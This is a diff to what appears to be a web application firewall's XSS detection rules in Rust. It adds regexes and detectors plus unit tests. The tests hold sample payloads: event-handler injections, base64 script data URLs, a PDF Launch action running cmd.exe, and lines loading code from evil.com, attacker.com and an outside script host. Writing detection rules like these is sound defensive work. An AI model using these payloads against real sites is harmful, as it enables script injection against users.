@@ -3,6 +3,8 @@
 use super::pipelines::*;
 use super::targets::*;
 use super::{Category::Xss, Check::*, RuleDef, Severity::*, rule};
+use std::sync::LazyLock;
+
 use crate::waf::js::sink_reference;
 use crate::waf::xss::scan;
 
@@ -22,6 +24,53 @@ fn leaking_markup(s: &str) -> bool {
     let open_tail = s.rfind('<').is_some_and(|p| !s[p..].contains('>'));
     (open_tail || s.contains("url(")) && scan(s).leaks
 }
+/// DOM clobbering needs an element with an `id` or `name`.
+fn clobbering_markup(s: &str) -> bool {
+    (s.contains("id=") || s.contains("name=")) && scan(s).clobbers
+}
+
+/// An event handler calling a function, as 941240 reads it.
+static HANDLER_CALL: LazyLock<Option<regex::Regex>> = LazyLock::new(|| {
+    regex::Regex::new(r#"(?:^|['"`\s/;])on[a-z]{3,}\s*=\s*['"`]?\s*[\w$.\[\]'"]+\s*(?:\(|`)"#).ok()
+});
+
+/// Markup split by junk tags that a filter is expected to strip
+/// (`o<x>nmouseover=alert<x>(1)`): a short tag with no attributes glued between a
+/// letter and a letter or `(`. The value is read again without them; HTML that
+/// writes `bold</b>text` has no handler or tag left to find.
+fn tag_split_markup(s: &str) -> bool {
+    let b = s.as_bytes();
+    let mut cleaned = String::new();
+    let mut last = 0;
+    let mut from = 0;
+    while let Some(p) = memchr::memchr(b'<', &b[from..]) {
+        let lt = from + p;
+        from = lt + 1;
+        let Some(len) = b[lt + 1..].iter().take(12).position(|&c| c == b'>') else {
+            continue;
+        };
+        let gt = lt + 1 + len;
+        let name = &b[lt + 1..gt];
+        let glued = lt > 0
+            && b[lt - 1].is_ascii_alphanumeric()
+            && b.get(gt + 1)
+                .is_some_and(|&c| c.is_ascii_alphanumeric() || c == b'(');
+        if glued && name.iter().all(|&c| c.is_ascii_alphanumeric() || c == b'/') {
+            cleaned.push_str(&s[last..lt]);
+            last = gt + 1;
+            from = gt + 1;
+        }
+    }
+    if last == 0 {
+        return false;
+    }
+    cleaned.push_str(&s[last..]);
+    HANDLER_CALL
+        .as_ref()
+        .is_some_and(|re| re.is_match(&cleaned))
+        || (cleaned.contains('<') && scan(&cleaned).any())
+}
+
 fn offsite_markup(s: &str) -> bool {
     (s.contains("url(") || s.contains("<form")) && scan(s).offsite
 }
@@ -79,7 +128,10 @@ pub(super) fn rules() -> Vec<RuleDef> {
             t,
             XSS_TIGHT,
             Regex(
-                r##"\bdata:(?:text/html|image/svg\+xml|application/(?:x-)?(?:javascript|ecmascript|xhtml\+xml)|text/(?:javascript|ecmascript|xml))[;,]"##,
+                // Also a data: URL whose base64 body is markup (`<script`, `<svg`,
+                // `<img`, `<iframe`, `<html`, `<body`, `<object`, `<embed`),
+                // whatever type it claims.
+                r##"\bdata:(?:text/html|image/svg\+xml|application/(?:x-)?(?:javascript|ecmascript|xhtml\+xml)|text/(?:javascript|ecmascript|xml))[;,]|\bdata:[a-z0-9.+/-]*(?:;[a-z0-9.=-]*)*;base64,(?:phnjcmlwd|phn2zy|pgltzy|pglmcmftz|pgh0bww|pgjvzhk|pg9iamvjd|pgvtymvk)"##,
             ),
             "XSS: data: URL with active content",
         ),
@@ -126,7 +178,12 @@ pub(super) fn rules() -> Vec<RuleDef> {
             Critical,
             t,
             XSS,
-            Regex(r##"(?:^|['"`\s/;])on[a-z]{3,}\s*=\s*['"`]?\s*[\w$.\[\]'"]+\s*(?:\(|`)"##),
+            // The `=` may be JS-escaped for a string that is later written as
+            // HTML (`onerror\x3dalert(1)`); a handler may be given a minified
+            // arrow function (`onload=x=>…`; code written for people spaces it).
+            Regex(
+                r##"(?:^|['"`\s/;])on[a-z]{3,}\s*(?:=|\\x3d|\\u003d|\\u\{3d\}|\\0?75)\s*['"`]?\s*[\w$.\[\]'"]+\s*(?:\(|`)|(?:^|['"`\s/;.])on[a-z]{3,}=(?:[a-z_$][\w$]*|\([\w$,]*\))=>"##,
+            ),
             "XSS: event handler injected into an attribute",
         ),
         rule(
@@ -152,8 +209,9 @@ pub(super) fn rules() -> Vec<RuleDef> {
                 // property name spelled only in escapes; `<` escaped for a JS string
                 // before a tag name; the Function constructor run from a string
                 // (`Function('code')()`, ``Set.constructor`code` ``); markup or a
-                // script URL handed to `write`/`open` as a tagged template.
-                r##"\b(?:top|parent|self|window|frames|globalthis|content|opener)\s*(?:\?\.\s*)?\[[^\]]{0,100}['"`/][^\]]{0,100}\]\s*(?:\?\.\s*)?\(|\[\s*['"`](?:\\(?:[0-7]{2,3}|x[0-9a-f]{2}|u[0-9a-f]{4}))+['"`]\s*\]|\\(?:x3c|u003c|u\{3c\}|0?74)\s*/?\s*(?:script|img|svg|iframe|body|object|embed|style|math|video|audio|details|input|image)\b|\bfunction\s*\(\s*['"`][^'"`]*['"`]\s*\)\s*\(|\.constructor\s*`|\.(?:write(?:ln)?|open)\s*`\s*(?:<|javas|vbs|data:|\\)"##,
+                // script URL handed to `write`/`open` as a tagged template; a
+                // Handlebars `lookup` of `constructor` or `__proto__`.
+                r##"\b(?:top|parent|self|window|frames|globalthis|content|opener)\s*(?:\?\.\s*)?\[[^\]]{0,100}['"`/][^\]]{0,100}\]\s*(?:\?\.\s*)?\(|\[\s*['"`](?:\\(?:[0-7]{2,3}|x[0-9a-f]{2}|u[0-9a-f]{4}))+['"`]\s*\]|\\(?:x3c|u003c|u\{3c\}|0?74)\s*/?\s*(?:script|img|svg|iframe|body|object|embed|style|math|video|audio|details|input|image)\b|\bfunction\s*\(\s*['"`][^'"`]*['"`]\s*\)\s*\(|\.constructor\s*`|\.(?:write(?:ln)?|open)\s*`\s*(?:<|javas|vbs|data:|\\)|\{\{[^}]*\blookup\s[^}]*['"](?:constructor|__proto__|prototype)['"]"##,
             ),
             "XSS: script gadget (computed call, escaped name, Function from a string)",
         ),
@@ -166,6 +224,42 @@ pub(super) fn rules() -> Vec<RuleDef> {
             XSS,
             Detector(sink_reference, b"(=,[:?"),
             "XSS: dialog or eval sink passed, assigned or called indirectly",
+        ),
+        rule(
+            941300,
+            Xss,
+            1,
+            Critical,
+            t,
+            XSS,
+            // Script bound outside HTML: an IE behavior or XBL binding loaded by
+            // CSS (`behavior: url(x.htc)`), a PDF action dictionary that launches a
+            // program, runs script or submits the document (`/S /Launch /F …`), an
+            // `mhtml:` URL picking a part out of an archive.
+            Regex(
+                r##"\bbehavior\s*:\s*url\s*\(|-moz-binding\s*:\s*url\s*\(|/type\s*/action\b|/s\s*/(?:launch|javascript|submitform|importdata)\s*/|\bmhtml:[^\s!]+!"##,
+            ),
+            "XSS: script bound by CSS, a PDF action or an mhtml: URL",
+        ),
+        rule(
+            941310,
+            Xss,
+            1,
+            Critical,
+            t,
+            XSS,
+            Detector(tag_split_markup, b"<"),
+            "XSS: handler or tag split by junk tags",
+        ),
+        rule(
+            941320,
+            Xss,
+            1,
+            Critical,
+            t,
+            XSS,
+            Detector(clobbering_markup, b"<"),
+            "XSS: element named after a document property (DOM clobbering)",
         ),
         rule(
             941280,
@@ -230,6 +324,81 @@ mod tests {
         assert!(!fires(941290, "import('./module.js')"));
         assert!(!fires(941290, "new Worker('worker.js')"));
         assert!(!fires(941290, "import (see https://example.com)"));
+    }
+
+    #[test]
+    fn an_escaped_equals_after_a_handler_fires() {
+        assert!(fires(941240, "<img src=1 onerror\\x3dalert(1)>"));
+        assert!(fires(941240, "\" onload\\u003dalert(1)"));
+        assert!(!fires(941240, "the onload\\x3d escape"));
+    }
+
+    #[test]
+    fn minified_arrows_given_to_handlers_fire_but_spaced_code_does_not() {
+        assert!(fires(
+            941240,
+            "onload=x=>$.getScript('//brutelogic.com.br/2.js')"
+        ));
+        assert!(fires(941240, "img.onerror=()=>fetch('//x')"));
+        assert!(!fires(941240, "img.onload = () => { draw(); }"));
+        assert!(!fires(941240, "the onload=>handler arrow"));
+    }
+
+    #[test]
+    fn data_urls_carrying_base64_markup_fire_whatever_type_they_claim() {
+        assert!(fires(
+            941190,
+            "<a href=\"data:application/x-x509-user-cert;&NewLine;base64&NewLine;,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">X</a>"
+        ));
+        assert!(fires(
+            941190,
+            "data:image/png;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"
+        ));
+        assert!(!fires(
+            941190,
+            "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg"
+        ));
+    }
+
+    #[test]
+    fn a_handlebars_lookup_of_the_constructor_fires() {
+        assert!(fires(
+            941260,
+            "{{lookup (lookup this \"constructor\") \"prototype\"}}"
+        ));
+        assert!(!fires(941260, "{{lookup people 'name'}}"));
+    }
+
+    #[test]
+    fn css_behaviors_pdf_actions_and_mhtml_fire_but_prose_does_not() {
+        for a in [
+            "behavior: url(xss.htc);",
+            "-moz-binding:url(//evil.com/x.xml#xss)",
+            "/Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >>",
+            "/S /JavaScript /JS (app.alert(1))",
+            "mhtml:http://attacker.com/n.html!xss.html",
+        ] {
+            assert!(fires(941300, a), "missed {a}");
+        }
+        for b in [
+            "request-continuation behavior: see below",
+            "the /S switch runs setup silently",
+            "save as mhtml: a single file",
+            "installer.exe /S /D=C:\\Apps",
+        ] {
+            assert!(!fires(941300, b), "flagged {b}");
+        }
+    }
+
+    #[test]
+    fn markup_split_by_junk_tags_is_read_without_them() {
+        use super::tag_split_markup;
+        assert!(tag_split_markup("\"o<x>nmouseover=alert<x>(1)//"));
+        assert!(tag_split_markup("\"autof<x>ocus o<x>nfocus=alert<x>(1)//"));
+        assert!(tag_split_markup("<scr<b>ipt>alert(1)</script>"));
+        assert!(!tag_split_markup("<b>bold</b>text and <i>more</i>"));
+        assert!(!tag_split_markup("x<br>y onclick is an attribute"));
+        assert!(!tag_split_markup("a<3 and b>c"));
     }
 
     #[test]
